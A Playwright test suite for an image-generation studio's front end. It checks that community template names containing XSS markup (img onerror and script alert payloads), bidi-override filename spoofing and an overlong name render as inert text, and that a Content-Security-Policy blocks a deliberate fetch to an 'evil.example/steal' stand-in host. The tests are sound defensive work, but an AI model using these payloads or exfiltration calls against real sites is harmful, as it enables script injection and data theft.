import type { Page } from '@playwright/test';
import { SANDBOX_ORIGIN, expect, test } from './fixtures';
import { History } from './task-helpers';

// PRODUCT 3: every catalog string is untrusted text, rendered as text, never as HTML. The sandbox's
// community templates carry the attacks: markup with handlers, script tags, a 2,400-character name,
// right-to-left text with bidi overrides, and markup in tags and option labels.

const ATTACKS = [
  'dreamy-portraits',
  'instant-glow-up',
  'endless-zoom',
  'cinematic-portrait-rtl',
  'sticker-sheet',
] as const;

/** What markup in catalog text would have created if it had been parsed as HTML. */
const injected = (page: Page) =>
  page.evaluate(() => ({
    scripts: Array.from(document.scripts)
      .filter((s) => /alert|evil\.example|localStorage/.test(s.textContent ?? ''))
      .map((s) => s.outerHTML),
    imgX: Array.from(document.images)
      .filter((i) => i.getAttribute('src') === 'x')
      .map((i) => i.outerHTML),
    handlers: Array.from(document.querySelectorAll('[onerror], [onload], [onclick]')).map((e) => e.outerHTML),
    jsLinks: Array.from(document.querySelectorAll('a[href^="javascript:" i]')).map((e) => e.outerHTML),
    bold: Array.from(document.querySelectorAll('b')).map((e) => e.outerHTML),
  }));

const overflow = (page: Page) =>
  page.evaluate(() => ({
    scrollWidth: document.documentElement.scrollWidth,
    clientWidth: document.documentElement.clientWidth,
  }));

test('the attack templates render as inert text: no dialog, no script, no <img src=x>, no overflow', async ({
  studio,
  sandbox,
  page,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.setViewportSize({ width: 1280, height: 800 });
  await studio.goto();
  await studio.connect('personal');
  const title = await page.title();

  const templates = await sandbox.templates();
  await studio.tab('Templates').click();
  const panel = studio.panel('Templates');

  for (const slug of ATTACKS) {
    const template = templates.find((t) => t.slug === slug);
    expect(template, `${slug} is listed`).toBeDefined();
    await test.step(slug, async () => {
      const card = panel.getByRole('listitem').nth(templates.indexOf(template!)).getByRole('button');
      await expect(card).toContainText(template!.name.slice(0, 60));
      await card.click();
      await expect(page).toHaveURL(new RegExp(`[?&]template=${slug}(&|$)`));
      const form = page.getByRole('region', { name: 'Form' }).getByRole('form');
      await expect(form.getByRole('heading', { level: 2 })).toHaveText(template!.name);

      expect(await injected(page)).toEqual({ scripts: [], imgX: [], handlers: [], jsLinks: [], bold: [] });
      expect(await page.title()).toBe(title);
      const { scrollWidth, clientWidth } = await overflow(page);
      expect(scrollWidth, 'no horizontal overflow at 1280 px').toBeLessThanOrEqual(clientWidth);
      expect(dialogs).toEqual([]);
    });
  }

  // The markup is shown as the literal text it is.
  await expect(
    panel.getByText('Dreamy portraits <img src=x onerror=alert(1)>', { exact: true }),
  ).toBeVisible();
  await expect(
    panel.getByText('Instant glow-up <script>alert("xss")</script>', { exact: true }),
  ).toBeVisible();

  // Option labels with markup, in the sticker sheet's form (the last one opened), are text too.
  const style = page.getByRole('combobox', { name: 'Sticker style', exact: true });
  await expect(style.locator('option', { hasText: '<script>alert(3)</script>Anime' })).toHaveCount(1);
  await style.selectOption('anime');
  expect(await injected(page)).toEqual({ scripts: [], imgX: [], handlers: [], jsLinks: [], bold: [] });

  expect(dialogs).toEqual([]);
  expect(await page.title()).toBe(title);
});

test('right-to-left text is shown as text in its own direction, and bidi overrides cannot spoof', async ({
  studio,
  sandbox,
  page,
}) => {
  await studio.goto();
  await studio.connect('personal');
  const rtl = (await sandbox.templates()).find((t) => t.slug === 'cinematic-portrait-rtl')!;
  expect(rtl.summary).toContain('\u202e');

  await studio.tab('Templates').click();
  const card = studio.card(rtl.name, studio.panel('Templates'));
  await expect(card).toBeVisible();
  await expect(card.getByText(rtl.name, { exact: true })).toHaveAttribute('dir', 'auto');

  await card.click();
  const form = studio.form(rtl.name);
  await expect(form).toBeVisible();
  const heading = form.getByRole('heading', { name: rtl.name, exact: true });
  await expect(heading).toHaveAttribute('dir', 'auto');
  // The summary says "download gpj.exe now": an override must not make it read "exe.jpg".
  const shown = await page.getByRole('region', { name: 'Form' }).innerText();
  expect(shown).toContain('صور شخصية بإضاءة سينمائية');
  expect(shown).toContain('gpj.exe');
  expect(shown).not.toMatch(/[\u202a-\u202e]/);
  expect(await studio.panel('Templates').innerText()).not.toMatch(/[\u202a-\u202e]/);
});

test('the 2,400-character name stays inside the page at 1280 px, in the gallery and in the form', async ({
  studio,
  sandbox,
  page,
}) => {
  await page.setViewportSize({ width: 1280, height: 800 });
  await studio.goto();
  await studio.connect('personal');
  const zoom = (await sandbox.templates()).find((t) => t.slug === 'endless-zoom')!;
  expect(zoom.name.length).toBeGreaterThanOrEqual(2000);

  await studio.tab('Templates').click();
  await expect(studio.card(zoom.name, studio.panel('Templates'))).toBeVisible();
  let { scrollWidth, clientWidth } = await overflow(page);
  expect(scrollWidth).toBeLessThanOrEqual(clientWidth);

  await studio.card(zoom.name, studio.panel('Templates')).click();
  const heading = studio.form(zoom.name).getByRole('heading', { level: 2 });
  await expect(heading).toBeVisible();
  ({ scrollWidth, clientWidth } = await overflow(page));
  expect(scrollWidth).toBeLessThanOrEqual(clientWidth);
  // Clamped on screen: the heading is not thousands of pixels tall.
  const box = await heading.boundingBox();
  expect(box!.height).toBeLessThan(200);
});

test('the built studio is served with a Content-Security-Policy, and a whole journey breaks none of it', async ({
  studio,
  page,
}) => {
  const violations: string[] = [];
  await page.exposeFunction('reportCsp', (v: string) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { reportCsp: (v: string) => void }).reportCsp(
        `${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`,
      ),
    );
  });
  const response = await page.goto('/');
  const csp = response!.headers()['content-security-policy'] ?? '';
  for (const directive of [
    "script-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
    `connect-src 'self' ${SANDBOX_ORIGIN}`,
  ])
    expect(csp).toContain(directive);
  expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);

  await studio.connect('personal');
  const form = await studio.openModel('Lumen Canvas');
  await studio.prompt.fill('A lighthouse at dusk');
  await expect(studio.quote.getByTestId('quote-credits')).toBeVisible();
  await form.getByRole('button', { name: 'Generate' }).click();
  const history = new History(page);
  const card = history.card('A lighthouse at dusk');
  await history.expectStatus(card, 'succeeded');
  await expect(card.getByRole('img').first()).toBeVisible();
  await page.getByRole('button', { name: /^Compare/ }).click();
  await expect(page.getByRole('region', { name: 'Compare', exact: true })).toBeVisible();
  expect(violations).toEqual([]);
});

test('the policy refuses a call to an origin it does not name', async ({ studio, page }) => {
  await studio.goto();
  // The browser reports the refusal itself (offline or not, this is the policy speaking).
  const directive = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), {
          once: true,
        });
        void fetch('https://evil.example/steal').catch(() => undefined);
      }),
  );
  expect(directive).toBe('connect-src');
});
